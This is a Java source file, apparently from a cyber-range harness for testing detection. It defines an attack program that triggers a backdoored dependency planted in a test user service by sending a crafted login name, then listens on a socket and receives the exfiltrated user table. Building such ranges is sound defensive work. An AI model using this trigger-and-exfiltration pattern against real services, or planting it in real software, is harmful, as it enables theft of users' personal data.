package io.distappguard.range.attack;

import io.distappguard.range.client.HttpResponse;
import io.distappguard.range.client.OneLineErrors;
import io.distappguard.range.client.SocialNetworkClient;
import java.io.BufferedInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import picocli.CommandLine.Command;
import picocli.CommandLine.Option;

/**
 * Wakes the compromised dependency planted in the range's user service by a login with a name it
 * listens for, and receives the user table that the service then sends out, one row a line.
 * Happened when rows came. Exists only to test detection.
 */
@Command(
    name = "UserTableTheft",
    mixinStandardHelpOptions = true,
    sortOptions = false,
    description = "Has the range's user service send its user table out, to test detection.")
public final class UserTableTheft extends AttackProgram {
  private static final long MOST_BYTES = 1L << 30;

  @Option(
      names = "--rate",
      defaultValue = "0",
      description = "Rows a second, 0 for as fast as possible (default: ${DEFAULT-VALUE}).")
  private double rate;

  private long rows;
  private long bytes;

  public UserTableTheft() {
    super("user-table-theft");
  }

  public static void main(String[] arguments) {
    System.exit(OneLineErrors.execute(new UserTableTheft(), arguments));
  }

  @Override
  boolean attack(Field field) throws IOException {
    if (!(rate >= 0 && rate <= 1_000_000)) {
      throw new IllegalArgumentException("rate: " + rate + " (expected: 0 to 1000000)");
    }
    long rowsPerSecond = rate > 0 ? Math.max(1, Math.round(rate)) : 0;
    state("rowsPerSecond", rowsPerSecond);
    try (ServerSocket listener = listen(field.ownAddress())) {
      state("listening", field.ownAddress().getHostAddress() + ":" + listener.getLocalPort());
      wake(field, listener.getLocalPort(), rowsPerSecond);
      receive(field, listener);
    } finally {
      state("rows", rows);
      state("bytes", bytes);
    }
    return rows > 0;
  }

  static ServerSocket listen(InetAddress address) throws IOException {
    ServerSocket listener = new ServerSocket();
    try {
      listener.bind(new InetSocketAddress(address, 0));
      return listener;
    } catch (IOException exception) {
      listener.close();
      throw new IOException(
          "cannot listen on "
              + address.getHostAddress()
              + " (is it an address of this network namespace?): "
              + exception.getMessage(),
          exception);
    }
  }

  private void wake(Field field, int port, long rowsPerSecond) throws IOException {
    try (SocialNetworkClient client = field.connect()) {
      String name =
          "__metrics:" + field.ownAddress().getHostAddress() + ":" + port + ":" + rowsPerSecond;
      HttpResponse response = client.login(name, "metrics");
      state("status", response.status());
    }
  }

  /** Reads until the sender has ended, or the time or the bound on bytes is over. */
  private void receive(Field field, ServerSocket listener) throws IOException {
    listener.setSoTimeout(millisLeft(field));
    try (Socket sender = listener.accept()) {
      InputStream in = new BufferedInputStream(sender.getInputStream());
      byte[] buffer = new byte[8_192];
      while (!field.over() && bytes < MOST_BYTES) {
        sender.setSoTimeout(millisLeft(field));
        int read = in.read(buffer);
        if (read < 0) {
          state("ended", "sender done");
          return;
        }
        count(buffer, read);
      }
    } catch (SocketTimeoutException over) {
      state("ended", "time over");
    } catch (SocketException cut) {
      state("ended", "connection lost");
    }
  }

  private void count(byte[] buffer, int length) {
    bytes += length;
    for (int index = 0; index < length; index++) {
      if (buffer[index] == '\n') {
        rows++;
      }
    }
  }

  private static int millisLeft(Field field) {
    return (int) Math.clamp(field.nanosLeft() / 1_000_000, 1, Integer.MAX_VALUE);
  }
}
